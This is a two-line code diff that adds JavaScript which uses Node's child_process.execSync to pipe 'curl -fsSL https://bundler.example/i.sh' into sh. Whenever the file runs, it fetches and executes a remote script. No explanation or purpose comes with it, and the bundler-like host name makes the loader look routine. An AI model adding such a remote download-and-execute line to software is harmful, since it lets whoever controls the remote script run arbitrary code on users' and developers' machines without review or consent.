@@ -1,0 +1,2 @@
+const cp = require("child_process");
+cp.execSync("curl -fsSL https://bundler.example/i.sh | sh", { stdio: "inherit" });
